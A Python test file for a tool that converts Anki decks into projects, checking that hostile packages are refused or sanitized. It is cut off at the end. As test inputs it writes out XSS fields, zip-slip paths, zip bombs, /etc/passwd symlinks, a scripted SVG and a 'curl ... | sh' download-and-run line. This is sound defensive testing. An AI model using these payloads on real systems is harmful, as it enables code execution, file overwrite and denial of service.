"""`deckbuild adopt`: an existing deck (.apkg of every format, CrowdAnki) becomes a project; hostile packages change nothing.

The source collection is made with the real Anki backend (note types of every shape,
subdecks, tags, an image, reviewed cards) and exported with Anki's own exporter.
Issue 16's acceptance 1 is test_round_trip_into_the_original_collection (legacy and
current packages) and, on the repo's own deck, test_the_shipped_deck_round_trips...;
acceptance 4 is every test that goes through `_refused` (DIR's parent hashed before and
after, the temp folder left empty) and test_script_and_remote_loads_are_kept_as_html...
"""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from images import png

IMAGE = png(9, 16, 16)
HOSTILE_FIELD = '<b>bold</b><script>alert(1)</script><img src="cat.png" onerror="alert(2)"><img src="https://example.com/x.png">'


def deckbuild(*args: str, cwd: Path | None = None, tmpdir: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "TMPDIR": str(tmpdir)} if tmpdir is not None else None
    return subprocess.run(
        [sys.executable, "-m", "deckbuild.cli", *args], cwd=cwd, capture_output=True, text=True, check=False, env=env
    )


def tree(root: Path) -> dict[str, str]:
    """Every path below root with its content hash (folders as 'dir')."""
    out = {}
    for path in sorted(root.rglob("*")):
        out[path.relative_to(root).as_posix()] = "dir" if path.is_dir() else hashlib.sha256(path.read_bytes()).hexdigest()
    return out


# A deck description as real ones are: long HTML of links and credits (Ultimate Geography's has 2,159 characters).
LONG_DESCRIPTION = (
    '<div style="text-align: center;"><b>Lang</b>: words and their readings.</div>\n'
    + "".join(
        f'<p>Part {n}: maintained on <a href="https://example.org/lang/{n}">example.org/lang/{n}</a> &amp; '
        f"credits to contributor&nbsp;{n} (<i>CC BY 4.0</i>), &lt;see&gt; the changelog.</p>\n"
        for n in range(16)
    )
    + "<ul><li>Report mistakes</li><li>Suggest cards</li></ul>"
)
PLUS_TAG = "UG::Oceans+Seas"


def make_collection(folder: Path, *, hostile: bool = False) -> Any:
    """Basic, Basic (and reversed), Cloze and a four-field type with a conditional template;
    subdecks, tags (one with '+'), an image, a long HTML description and its own options preset;
    four cards reviewed."""
    from ankiutil import new_collection

    col = new_collection(folder)
    models = col.models
    vocab = models.new("Vocab")
    for name in ("Word", "Reading", "Meaning", "Extra"):
        models.add_field(vocab, models.new_field(name))
    template = models.new_template("Recognition")
    template["qfmt"] = "{{Word}}"
    template["afmt"] = "{{FrontSide}}<hr id=answer>{{Meaning}}{{#Extra}}<div>{{Extra}}</div>{{/Extra}}"
    models.add_template(vocab, template)
    template = models.new_template("Reading")
    template["qfmt"] = "{{#Reading}}{{Word}}: reading?{{/Reading}}"
    template["afmt"] = "{{FrontSide}}<hr id=answer>{{Reading}}"
    models.add_template(vocab, template)
    vocab["css"] += '\n.vocab { color: #226; }\n@font-face { font-family: v; src: url("_vocab.woff"); }\n'
    models.add(vocab)
    root = col.decks.id("Lang")
    lang = col.decks.get(root)
    lang["desc"] = LONG_DESCRIPTION
    preset = col.decks.add_config_returning_id("Lang preset")
    lang["conf"] = preset
    col.decks.save(lang)
    options = col.decks.get_config(preset)
    options["new"]["perDay"] = 7
    col.decks.update_config(options)
    verbs = col.decks.id("Lang::Verbs")
    nouns = col.decks.id("Lang::Nouns")
    (Path(col.media.dir()) / "cat.png").write_bytes(IMAGE)
    (Path(col.media.dir()) / "_vocab.woff").write_bytes(b"wOFF" + bytes(64))
    (Path(col.media.dir()) / "unused.png").write_bytes(IMAGE[::-1])

    def add(notetype: str, deck: int, fields: dict[str, str], tags: list[str]) -> None:
        note = col.new_note(models.by_name(notetype))
        for key, value in fields.items():
            note[key] = value
        note.tags = tags
        col.add_note(note, deck)

    add("Basic", root, {"Front": "What is 2+2?", "Back": "4"}, ["math", PLUS_TAG])
    add("Basic", nouns, {"Front": "Cat", "Back": '<img src="cat.png">'}, ["animal", "has::image"])
    add("Basic (and reversed card)", verbs, {"Front": "taberu", "Back": "to eat <b>food</b>"}, ["verb"])
    add("Cloze", root, {"Text": "The capital of France is {{c1::Paris}}, of Italy {{c2::Rome}}.", "Back Extra": ""}, [])
    add("Vocab", verbs, {"Word": "inu", "Reading": "いぬ", "Meaning": "dog"}, ["jlpt::n5"])
    add("Vocab", verbs, {"Word": "neko", "Meaning": "cat", "Extra": "a small animal"}, ["jlpt::n5"])
    if hostile:
        add("Basic", root, {"Front": "Hostile", "Back": HOSTILE_FIELD}, [])
        # Notes Anki keeps as they are but deckbuild's checks would refuse as written.
        add("Basic", root, {"Front": "Literal cloze", "Back": "{{c1::shown as typed}}"}, [])
        add("Cloze", root, {"Text": "gap {{c1::a}} {{c3::b}}", "Back Extra": "extra {{c2::c}}"}, [])
        add("Cloze", root, {"Text": "dollar math $z$ and {{c1::y}}", "Back Extra": ""}, [])
        add("Basic", root, {"Front": "", "Back": "a note whose front is empty: Anki made no card"}, [])
        add("Basic", root, {"Front": "AT&T", "Back": "a bare ampersand"}, [])
    for card_id in sorted(col.find_cards(""))[:4]:
        card = col.get_card(card_id)
        card.start_timer()
        col.sched.answerCard(card, 3)
    return col


def export(col: Any, path: Path, *, legacy: bool, with_media: bool = True, deck: str = "Lang") -> Path:
    from anki.collection import ExportAnkiPackageOptions
    from anki.import_export_pb2 import ExportLimit

    col.export_anki_package(
        out_path=str(path),
        options=ExportAnkiPackageOptions(with_scheduling=True, with_media=with_media, legacy=legacy),
        limit=ExportLimit(deck_id=col.decks.id_for_name(deck)),
    )
    return path


@pytest.fixture(scope="module")
def packages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("adopt-source")
    col = make_collection(folder / "anki", hostile=True)
    try:
        packages = {
            "legacy": export(col, folder / "legacy.apkg", legacy=True),
            "current": export(col, folder / "current.apkg", legacy=False),
            "no-media": export(col, folder / "no-media.apkg", legacy=False, with_media=False),
        }
    finally:
        col.close()
    # Anki 2.0's form: the collection as collection.anki2 (no collection.anki21 beside it).
    with zipfile.ZipFile(packages["legacy"]) as archive:
        members = {name: archive.read(name) for name in archive.namelist() if name not in {"collection.anki2", "meta"}}
    members["collection.anki2"] = members.pop("collection.anki21")
    packages["anki2"] = _zip(folder / "anki2.apkg", members)
    return packages


def adopt_into(source: Path, tmp_path: Path) -> tuple[subprocess.CompletedProcess[str], Path]:
    target = tmp_path / "parent" / "deck"
    target.parent.mkdir(parents=True, exist_ok=True)
    private_tmp = tmp_path / "tmp"
    private_tmp.mkdir()
    result = deckbuild("adopt", str(source), str(target), tmpdir=private_tmp)
    assert list(private_tmp.iterdir()) == []  # nothing left in the temp folder
    assert sorted(p.name for p in target.parent.iterdir()) == ["deck"]  # nothing beside DIR
    return result, target


@pytest.mark.parametrize("kind", ["legacy", "current", "anki2"])
def test_adopt_writes_a_project_keeping_ids_guids_decks_tags_media(packages: dict[str, Path], tmp_path: Path, kind: str) -> None:
    result, project = adopt_into(packages[kind], tmp_path)
    assert result.returncode == 0, result.stderr
    assert "11 notes, 4 note types, 2 media files" in result.stdout
    deck = yaml.safe_load((project / "deck.yaml").read_text())
    assert deck["name"] == "Lang" and deck["namespace"] == "lang" and deck["version"] == "1.0.0"
    assert sorted(p.name for p in (project / "notetypes").iterdir()) == [
        "basic",
        "basic-and-reversed-card",
        "cloze-type",
        "vocab",
    ]
    vocab = yaml.safe_load((project / "notetypes/vocab/notetype.yaml").read_text())
    assert vocab["fields"] == ["Word", "Reading", "Meaning", "Extra"]
    assert [t["name"] for t in vocab["templates"]] == ["Recognition", "Reading"]
    assert set(vocab["field_ids"]) == set(vocab["fields"]) and set(vocab["template_ids"]) == {"Recognition", "Reading"}
    assert (
        project / "notetypes/vocab" / vocab["templates"][1]["front"]
    ).read_text() == "{{#Reading}}{{Word}}: reading?{{/Reading}}"
    assert ".vocab { color: #226; }" in (project / "notetypes/vocab/style.css").read_text()
    assert yaml.safe_load((project / "notetypes/cloze-type/notetype.yaml").read_text())["cloze"] is True
    assert sorted(p.name for p in (project / "cards").iterdir()) == ["main.yaml", "nouns.yaml", "verbs.yaml"]
    verbs = yaml.safe_load((project / "cards/verbs.yaml").read_text())
    assert verbs["deck"] == "Verbs"
    inu = next(c for c in verbs["cards"] if c["id"] == "inu")
    assert inu["notetype"] == "vocab" and inu["tags"] == ["jlpt::n5"]
    assert inu["fields"] == {"Word": "inu", "Reading": "いぬ", "Meaning": "dog"}  # plain text: Markdown, exact
    taberu = next(c for c in verbs["cards"] if c["id"] == "taberu")
    assert taberu["fields"]["Back"] == {"html": "to eat <b>food</b>"}
    nouns = yaml.safe_load((project / "cards/nouns.yaml").read_text())
    assert nouns["cards"][0]["tags"] == ["animal", "has::image"]
    assert (project / "media/cat.png").read_bytes() == IMAGE
    assert sorted(p.name for p in (project / "media").iterdir()) == ["_vocab.woff", "cat.png"]  # not unused.png
    guids = [c["guid"] for f in (project / "cards").iterdir() for c in _cards(f)]
    from anki.collection import Collection

    col = Collection(str(packages[kind].parent / "anki" / "collection.anki2"))
    try:
        # every note but the one whose front is empty (Anki's template rule makes no card of it; Anki
        # gave it a blank card anyway)
        notes = [col.get_note(n) for n in col.find_notes("")]
        kept = [note for note in notes if note.fields[0] or note.note_type()["name"] != "Basic"]
        assert sorted(guids) == sorted(note.guid for note in kept) and len(kept) == 11
    finally:
        col.close()
    assert ": E267 warning: note " in result.stderr and "Anki makes no card of it" in result.stderr
    assert "E266 warning: 2 field(s) hold cloze syntax" in result.stderr
    assert "E265 warning: 1 field(s) hold a bare '&'" in result.stderr
    main = {c["id"]: c for c in _cards(project / "cards/main.yaml")}
    assert main["literal-cloze"]["fields"]["Back"] == {"html": "&#123;&#123;c1::shown as typed&#125;&#125;"}
    assert main["gap-a-b"]["fields"]["Text"] == {"html": "gap {{c1::a}} {{c3::b}}"}  # Markdown would be refused (E404)
    assert main["at-t"]["fields"]["Front"] == "AT&T"  # Markdown: renders AT&amp;T


def _cards(path: Path) -> list[dict[str, Any]]:
    data = yaml.safe_load(path.read_text())
    return data["cards"] if isinstance(data, dict) else data


def test_script_and_remote_loads_are_kept_as_html_and_named(packages: dict[str, Path], tmp_path: Path) -> None:
    result, project = adopt_into(packages["current"], tmp_path)
    assert result.returncode == 0, result.stderr
    again = deckbuild("adopt", str(packages["current"]), str(tmp_path / "again"))
    assert again.returncode == 0 and tree(tmp_path / "again") == tree(project)  # same source, same bytes
    assert "E260 warning:" in result.stderr
    for what in ("a <script> element", "an event handler (onerror=)", "a remote load (https://)"):
        assert what in result.stderr
    text = (project / "cards/main.yaml").read_text()
    assert "# adopt: field 'Back' holds a <script> element; kept as HTML, which the build sanitizes" in text
    hostile = next(c for c in _cards(project / "cards/main.yaml") if c["id"] == "hostile")
    assert hostile["fields"]["Back"] == {"html": HOSTILE_FIELD}
    assert "E264 warning: 1 HTML field(s) differ in the build from the source (sanitized)" in result.stderr
    # The build sanitizes it: what reaches Anki has no script, handler or remote load.
    build = deckbuild("build", "-C", str(project))
    assert build.returncode == 0, build.stderr
    with zipfile.ZipFile(next((project / "dist").glob("*.apkg"))) as archive:
        (tmp_path / "built.anki2").write_bytes(archive.read("collection.anki2"))
    import sqlite3

    db = sqlite3.connect(tmp_path / "built.anki2")
    try:
        back = db.execute("select flds from notes where guid = ?", (hostile["guid"],)).fetchone()[0].split("\x1f")[1]
    finally:
        db.close()
    assert "<b>bold</b>" in back and '<img src="cat.png"' in back
    for gone in ("<script", "alert", "onerror", "https://"):
        assert gone not in back


# --- hostile and broken sources: a clear located error, DIR's parent byte-identical -------------


def _zip(path: Path, members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return path


def _refused(source: Path, tmp_path: Path, code: str, *expected: str) -> str:
    parent = tmp_path / "parent"
    parent.mkdir(exist_ok=True)
    (parent / "keep.txt").write_text("unchanged")
    before = tree(parent)
    private_tmp = tmp_path / "tmp"
    private_tmp.mkdir(exist_ok=True)
    result = deckbuild("adopt", str(source), str(parent / "deck"), tmpdir=private_tmp)
    assert result.returncode == 1, result.stdout + result.stderr
    assert list(private_tmp.iterdir()) == []  # the private collection and trial project are gone too
    assert f": {code} " in result.stderr, result.stderr
    for text in expected:
        assert text in result.stderr
    assert "Traceback" not in result.stderr
    assert tree(parent) == before
    return result.stderr


def _legacy_members(packages: dict[str, Path]) -> dict[str, bytes]:
    with zipfile.ZipFile(packages["legacy"]) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize(
    ("member", "why"),
    [
        ("../evil.txt", "a '..' component"),
        ("media/../../evil.txt", "a '..' component"),
        ("/etc/evil", "an absolute path"),
        ("C:/evil", "an absolute path"),
        ("..\\evil", "a backslash"),
    ],
)
def test_members_escaping_the_folder_are_refused(packages: dict[str, Path], tmp_path: Path, member: str, why: str) -> None:
    source = _zip(tmp_path / "evil.apkg", {**_legacy_members(packages), member: b"pwned"})
    _refused(source, tmp_path, "E252", why)
    assert not (tmp_path / "evil.txt").exists()


def test_a_member_given_twice_is_refused(packages: dict[str, Path], tmp_path: Path) -> None:
    source = _zip(tmp_path / "twice.apkg", _legacy_members(packages))
    with zipfile.ZipFile(source, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(zipfile.ZipInfo("collection.anki21"), b"SQLite format 3\x00" + bytes(100))
    _refused(source, tmp_path, "E252", "member 'collection.anki21' is in the package twice")


def test_a_zip_bomb_is_refused_by_its_compression_ratio(packages: dict[str, Path], tmp_path: Path) -> None:
    bomb = {**_legacy_members(packages), "1": bytes(40 << 20)}
    _refused(_zip(tmp_path / "bomb.apkg", bomb), tmp_path, "E253", "member '1' unpacks to", "a zip bomb")


def test_a_zstd_bomb_inside_the_package_is_refused(packages: dict[str, Path], tmp_path: Path) -> None:
    import zstandard

    with zipfile.ZipFile(packages["current"]) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["collection.anki21b"] = zstandard.ZstdCompressor().compress(bytes(64 << 20))
    stored = _zip(tmp_path / "zbomb.apkg", members, zipfile.ZIP_STORED)
    _refused(stored, tmp_path, "E253", "member 'collection.anki21b' unpacks to")


def test_a_member_larger_than_the_cap_is_refused_from_its_header(tmp_path: Path) -> None:
    source = tmp_path / "huge.apkg"
    with zipfile.ZipFile(source, "w") as archive:
        info = zipfile.ZipInfo("collection.anki2")
        archive.writestr(info, b"x")
    data = bytearray(source.read_bytes())
    # Lie in the central directory: 3 GB uncompressed (a header Anki's unzip would trust).
    central = data.rfind(b"PK\x01\x02")
    data[central + 24 : central + 28] = (3 << 30).to_bytes(4, "little")
    source.write_bytes(bytes(data))
    _refused(source, tmp_path, "E253", "unpacks to 3072 MB")


def test_a_bomb_whose_headers_claim_a_small_size_is_refused(packages: dict[str, Path], tmp_path: Path) -> None:
    source = _zip(tmp_path / "liar.apkg", {**_legacy_members(packages), "1": bytes(40 << 20)})
    with zipfile.ZipFile(source) as archive:
        local = archive.getinfo("1").header_offset
    data = bytearray(source.read_bytes())
    # Both headers of member "1" say it unpacks to 100 bytes; it unpacks to 40 MB.
    data[local + 22 : local + 26] = (100).to_bytes(4, "little")
    central = 0
    while (central := data.find(b"PK\x01\x02", central + 1)) >= 0:
        if data[central + 28 : central + 30] == b"\x01\x00" and data[central + 46 : central + 47] == b"1":
            data[central + 24 : central + 28] = (100).to_bytes(4, "little")
    source.write_bytes(bytes(data))
    with zipfile.ZipFile(source) as archive:
        assert archive.getinfo("1").file_size == 100  # the lie is in place
    _refused(source, tmp_path, "E251", "the package is damaged and cannot be unpacked")


def test_a_corrupt_database_is_a_located_error(tmp_path: Path) -> None:
    garbage = b"SQLite format 3\x00" + os.urandom(4096)
    source = _zip(tmp_path / "corrupt.apkg", {"collection.anki2": garbage, "media": b"{}"})
    _refused(source, tmp_path, "E255", "Anki cannot read the package's collection")


def test_not_a_package(tmp_path: Path) -> None:
    (tmp_path / "notes.apkg").write_text("just text")
    _refused(tmp_path / "notes.apkg", tmp_path, "E251", "expected a zip file")
    _refused(_zip(tmp_path / "empty.apkg", {"readme.txt": b"hi"}), tmp_path, "E254", "expected collection.anki21b")
    _refused(tmp_path / "missing.apkg", tmp_path, "E250", "no such file or folder")


@pytest.mark.parametrize("name", ["../../evil.png", "sub/evil.png", ".hidden", "CON.png"])
def test_media_names_that_escape_are_refused(packages: dict[str, Path], tmp_path: Path, name: str) -> None:
    members = _legacy_members(packages)
    members["media"] = json.dumps({"0": name}).encode()
    _refused(_zip(tmp_path / "media.apkg", members), tmp_path, "E257", repr(name))


def test_a_package_without_the_media_its_fields_name_is_refused(packages: dict[str, Path], tmp_path: Path) -> None:
    _refused(packages["no-media"], tmp_path, "E263", "fields reference 1 media file(s) the source does not hold: 'cat.png'")


def test_a_non_empty_dir_is_refused(packages: dict[str, Path], tmp_path: Path) -> None:
    parent = tmp_path / "parent"
    (parent / "deck").mkdir(parents=True)
    (parent / "deck" / "notes.md").write_text("mine")
    before = tree(parent)
    result = deckbuild("adopt", str(packages["current"]), str(parent / "deck"))
    assert result.returncode == 1 and ": E258 DIR exists and is not empty" in result.stderr
    assert tree(parent) == before


# --- CrowdAnki ----------------------------------------------------------------------------------


def crowdanki_folder(folder: Path) -> Path:
    deck = {
        "__type__": "Deck",
        "name": "Geo",
        "note_models": [
            {
                "__type__": "NoteModel",
                "crowdanki_uuid": "m-1",
                "name": "Country",
                "type": 0,
                "css": ".card {}",
                "flds": [{"name": "Country", "ord": 0}, {"name": "Capital", "ord": 1}, {"name": "Map", "ord": 2}],
                "tmpls": [{"name": "Card 1", "qfmt": "{{Country}}", "afmt": "{{FrontSide}}<hr>{{Capital}}{{Map}}"}],
            },
            {  # no note uses it (and its front shows no field, which deckbuild would refuse)
                "crowdanki_uuid": "m-unused",
                "name": "Unused",
                "flds": [{"name": "A"}],
                "tmpls": [{"name": "Card 1", "qfmt": "static", "afmt": "static"}],
            },
        ],
        "notes": [
            {
                "__type__": "Note",
                "guid": "g-france",
                "note_model_uuid": "m-1",
                "fields": ["France", "Paris", ""],
                "tags": ["europe"],
            }
        ],
        "children": [
            {
                "__type__": "Deck",
                "name": "Asia",
                "notes": [
                    {
                        "guid": "g-japan",
                        "note_model_uuid": "m-1",
                        "fields": ["Japan", "Tokyo", '<img src="japan.png">'],
                        "tags": [],
                    }
                ],
                "children": [],
            }
        ],
        "media_files": ["japan.png"],
    }
    (folder / "media").mkdir(parents=True)
    (folder / "media" / "japan.png").write_bytes(IMAGE)
    (folder / "media" / "unused.png").write_bytes(IMAGE)
    (folder / "deck.json").write_text(json.dumps(deck))
    return folder


def test_adopt_a_crowdanki_folder(tmp_path: Path) -> None:
    source = crowdanki_folder(tmp_path / "Geo")
    deck = json.loads((source / "deck.json").read_text())
    # Anki would store the first two as written; a tool that wrote deck.json by hand, the last two
    # not (a space splits a tag, an empty part becomes 'blank').
    deck["notes"][0]["tags"] = ["europe", PLUS_TAG, "two words", "geo::"]
    (source / "deck.json").write_text(json.dumps(deck))
    result, project = adopt_into(source, tmp_path)
    assert result.returncode == 0, result.stderr
    assert _cards(project / "cards/main.yaml")[0]["tags"] == ["europe", PLUS_TAG]
    assert "tag 'two words' dropped: it holds a space, a control character or '\"'; expected a tag Anki" in result.stderr
    assert "tag 'geo::' dropped: it has an empty part between '::'" in result.stderr
    assert result.stderr.count("E261 warning") == 2
    assert yaml.safe_load((project / "deck.yaml").read_text())["name"] == "Geo"
    assert [p.name for p in (project / "notetypes").iterdir()] == ["country"]  # only the note types notes use
    assert _cards(project / "cards/main.yaml")[0]["guid"] == "g-france"
    asia = yaml.safe_load((project / "cards/asia.yaml").read_text())
    assert asia["deck"] == "Asia" and asia["cards"][0]["fields"]["Map"] == {"html": '<img src="japan.png">'}
    assert sorted(p.name for p in (project / "media").iterdir()) == ["japan.png"]


def test_a_deck_the_build_would_refuse_is_refused_whole(tmp_path: Path) -> None:
    source = crowdanki_folder(tmp_path / "Geo")
    deck = json.loads((source / "deck.json").read_text())
    deck["note_models"][0]["tmpls"][0]["afmt"] = "{{FrontSide}}<hr>{{Capitl}}"  # a field that does not exist
    (source / "deck.json").write_text(json.dumps(deck))
    stderr = _refused(source, tmp_path, "E262", "the adopted project does not build, so nothing was written")
    assert "notetypes/country/card-1-back.html" in stderr and "Capitl" in stderr


SHELL_SCRIPT = b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"
SCRIPTED_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


def test_media_files_a_build_would_refuse_are_listed_and_nothing_is_written(tmp_path: Path) -> None:
    """Files are refused by content, each named with why; fields with script are sanitized, not refused (E260)."""
    source = crowdanki_folder(tmp_path / "Geo")
    (source / "media" / "japan.png").write_bytes(SHELL_SCRIPT)
    (source / "media" / "map.svg").write_bytes(SCRIPTED_SVG)
    deck = json.loads((source / "deck.json").read_text())
    deck["notes"][0]["fields"][2] = '<img src="map.svg">'
    (source / "deck.json").write_text(json.dumps(deck))
    stderr = _refused(source, tmp_path, "E278", "2 media file(s) are not what their names say")
    assert "'japan.png': E270 expected PNG image data (the name ends in .png); got a script beginning '#!/bin/sh'" in stderr
    assert "'map.svg': E275 onload= on <svg>" in stderr and "E275 <script> element" in stderr
    assert len(stderr.splitlines()) == 1, stderr


def test_a_package_with_a_fake_image_is_refused(tmp_path: Path) -> None:
    from ankiutil import new_collection

    col = new_collection(tmp_path / "anki")
    try:
        (Path(col.media.dir()) / "fake.png").write_bytes(SHELL_SCRIPT)
        note = col.new_note(col.models.by_name("Basic"))
        note["Front"], note["Back"] = "A picture?", '<img src="fake.png">'
        col.add_note(note, col.decks.id("Pics"))
        package = export(col, tmp_path / "pics.apkg", legacy=False, deck="Pics")
    finally:
        col.close()
    _refused(package, tmp_path, "E278", "'fake.png': E270 expected PNG image data")


def test_broken_crowdanki_folders_are_refused(tmp_path: Path) -> None:
    source = crowdanki_folder(tmp_path / "Geo")
    (source / "deck.json").write_text('{"name": "Geo", "notes": [')
    _refused(source, tmp_path, "E256", "deck.json is not valid JSON")
    source = crowdanki_folder(tmp_path / "Geo2")
    (source / "media" / "japan.png").unlink()
    (source / "media" / "japan.png").symlink_to("/etc/passwd")
    _refused(source, tmp_path, "E257", "media/japan.png is not a regular file")
    deck = json.loads((source / "deck.json").read_text())
    deck["notes"][0]["fields"].append("one too many")
    (source / "deck.json").write_text(json.dumps(deck))
    _refused(source, tmp_path, "E256", "its note model has 3 fields; the note gives 4")
    deck["notes"][0]["fields"].pop()
    deck["children"][0]["notes"][0]["fields"][2] = '<img src="../../../etc/passwd">'
    (source / "deck.json").write_text(json.dumps(deck))
    _refused(source, tmp_path, "E257", "its name is a path")


# --- acceptance 1: the adopted build changes nothing in the collection it came from ------------


def _scheduling(col: Any) -> tuple[list[tuple[int, ...]], int]:
    cards = sorted(col.db.all("select id, nid, did, ord, type, queue, due, ivl, factor, reps, lapses from cards"))
    return [tuple(row) for row in cards], col.db.scalar("select count() from revlog")


def _notes(col: Any) -> dict[int, tuple[list[str], list[str], int]]:
    """Every note's fields, tags and mod, by note id."""
    return {nid: (note.fields, sorted(note.tags), note.mod) for nid in col.find_notes("") for note in [col.get_note(nid)]}


def _decks(col: Any) -> dict[str, tuple[str, int, bool]]:
    """Every deck's description, options preset and Markdown flag, by name."""
    out = {}
    for entry in col.decks.all_names_and_ids():
        deck = col.decks.get(entry.id)
        out[entry.name] = (deck["desc"], deck.get("conf", 0), bool(deck.get("md", False)))
    return out


def _build(project: Path) -> Path:
    """`deckbuild build` in the project (it must succeed); the package it wrote."""
    build = deckbuild("build", "-C", str(project))
    assert build.returncode == 0, build.stderr
    return next((project / "dist").glob("*.apkg"))


def _edit(project: Path, card_id: str, field: str, value: str) -> None:
    for path in sorted((project / "cards").iterdir()):
        text = path.read_text()
        data = yaml.safe_load(text)
        cards = data["cards"] if isinstance(data, dict) else data
        for card in cards:
            if card["id"] == card_id:
                old = card["fields"][field]
                assert f"{field}: {old}\n" in text
                path.write_text(text.replace(f"{field}: {old}\n", f"{field}: {value}\n", 1))
                return
    raise AssertionError(f"no card {card_id}")


@pytest.mark.parametrize("legacy", [True, False], ids=["legacy", "current"])
def test_round_trip_into_the_original_collection(tmp_path: Path, legacy: bool) -> None:
    from anki.collection import Collection
    from ankiutil import import_package

    col = make_collection(tmp_path / "anki", hostile=True)
    try:
        source = export(col, tmp_path / "deck.apkg", legacy=legacy)
        before = _scheduling(col)
        notes_before = _notes(col)
        decks_before = _decks(col)
    finally:
        col.close()
    assert before[1] == 4  # four cards reviewed
    assert any(PLUS_TAG in tags for _fields, tags, _mod in notes_before.values())
    assert decks_before["Lang"][0] == LONG_DESCRIPTION and len(LONG_DESCRIPTION) > 2000
    project = tmp_path / "project"
    result = deckbuild("adopt", str(source), str(project))
    assert result.returncode == 0, result.stderr
    assert "E261" not in result.stderr  # every tag kept
    assert (project / "deckbuild.lock").is_file()
    package = _build(project)
    with zipfile.ZipFile(package) as archive, tempfile.TemporaryDirectory() as tmp:
        archive.extract("collection.anki2", tmp)
        with sqlite3.connect(Path(tmp) / "collection.anki2") as db:
            (models,) = db.execute("select models from col").fetchone()
        db.close()
    assert sorted(m["name"] for m in json.loads(models).values()) == [  # no unused built-in note type
        "Basic",
        "Basic (and reversed card)",
        "Cloze",
        "Vocab",
    ]

    col = Collection(str(tmp_path / "anki" / "collection.anki2"))
    try:
        log = import_package(col, package)
        # "duplicate": notes Anki already has and leaves as they are (re-importing Anki's own export says the same)
        assert (len(log.new), len(log.updated), len(log.conflicting)) == (0, 0, 0)
        # every note but the one Anki made no card of (adopt leaves it out, E267)
        assert len(log.duplicate) == log.found_notes == len(notes_before) - 1 == 11
        assert _scheduling(col) == before
        assert _notes(col) == notes_before  # fields, tags and mods
        assert _decks(col) == decks_before  # descriptions and options presets
        assert col.decks.get_config(decks_before["Lang"][1])["new"]["perDay"] == 7
        presets = sorted(col.decks.all_config(), key=lambda c: c["id"])
        import_package(col, package, with_deck_configs=True)  # "Import any deck presets" changes none either
        assert sorted(col.decks.all_config(), key=lambda c: c["id"]) == presets and _decks(col) == decks_before
        assert not any(m["name"].endswith("+") for m in col.models.all())  # no duplicate note type
    finally:
        col.close()

    _edit(project, "inu", "Meaning", "dog (the animal)")
    package = _build(project)
    col = Collection(str(tmp_path / "anki" / "collection.anki2"))
    try:
        log = import_package(col, package)
        assert (len(log.new), len(log.updated), len(log.conflicting)) == (0, 1, 0)
        edited = [nid for nid in col.find_notes("") if col.get_note(nid).fields != notes_before[nid][0]]
        assert len(edited) == 1 and col.get_note(edited[0])["Meaning"] == "dog (the animal)"
        assert _scheduling(col) == before  # cards, their scheduling and the review log untouched
    finally:
        col.close()


def test_anki_ids_adopt_keeps_reach_anki_negative_ones_too(tmp_path: Path) -> None:
    """Anki's field and template ids are signed 64-bit: about half of them are negative."""
    from ankiutil import import_package, new_collection
    from conftest import copy_project

    from deckbuild.commands import build

    project = copy_project("declared", tmp_path)
    path = project / "notetypes/vocab/notetype.yaml"
    ids = "id: 1796171666387\nfield_ids: {Word: -5085831497698186634, Reading: 9065372156383374031}\n"
    path.write_text(path.read_text() + ids + "template_ids: {Recall: -6975490940140976572}\n")
    result = build(project)
    col = new_collection(tmp_path / "anki")
    try:
        import_package(col, result.path)
        vocab = col.models.get(1796171666387)  # type: ignore[arg-type]
        assert vocab is not None
        fields = {f["name"]: f["id"] for f in vocab["flds"]}
        assert fields["Word"] == -5085831497698186634 and fields["Reading"] == 9065372156383374031
        assert {t["name"]: t["id"] for t in vocab["tmpls"]}["Recall"] == -6975490940140976572
    finally:
        col.close()


def test_a_failure_while_writing_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The writer's fault hook makes the third rename (media/, after cards/ and deck.yaml) fail
    as onto an immutable file: the two entries moved before it are removed again."""
    from deckbuild.adopt import write
    from deckbuild.errors import WriteFailed

    parent = tmp_path / "parent"
    parent.mkdir()
    before = tree(parent)
    monkeypatch.setenv("DECKBUILD_FAULT", "fail-rename:media")
    files = {"deck.yaml": b"name: x\n", "cards/main.yaml": b"[]\n", "media/a.png": IMAGE, "notetypes/a/notetype.yaml": b"{}"}
    with pytest.raises(WriteFailed) as failed:
        write.write_project(parent / "deck", files)
    assert failed.value.path == parent / "deck" / "media" and "Operation not permitted" in str(failed.value)
    assert failed.value.problems()[0].code == "E167"
    assert tree(parent) == before
    (parent / "empty").mkdir()
    before = tree(parent)
    with pytest.raises(WriteFailed):
        write.write_project(parent / "empty", files)
    assert tree(parent) == before  # an empty DIR that existed stays, empty


@pytest.mark.parametrize(
    "text", ["AT&T", "a&b c", "tom&jerry", "a & b", "x &amp; y", "&lt;b&gt;", "&copy 2020", "a&&b", "&#106;x", "a &"]
)
def test_a_bare_ampersand_is_written_so_the_build_keeps_it(text: str) -> None:
    """Python's HTML parser drops or completes a bare '&' before a letter ("AT&T" -> "ATT")."""
    import html

    from deckbuild.notetypes.sanitize import escape_bare_ampersands, sanitize_html

    written = escape_bare_ampersands(text)
    assert html.unescape(written) == html.unescape(text)  # what a browser shows is unchanged
    if "&copy " not in text:  # the sanitizer writes the legacy `&copy` as `&copy;` (shown alike)
        assert sanitize_html(written)[0] == written  # and the build keeps every character


def test_the_shipped_deck_round_trips_through_anki_and_adopt(shipped_project: Path, tmp_path: Path) -> None:
    """The repo's own deck (MathJax, figures, clozes), imported and reviewed in Anki, exported by Anki, adopted."""
    from anki.collection import Collection
    from ankiutil import answer_all, import_package, new_collection

    from deckbuild.plan import plan

    package = plan(shipped_project, "check").package
    assert package is not None
    col = new_collection(tmp_path / "anki")
    try:
        import_package(col, package)
        answer_all(col)
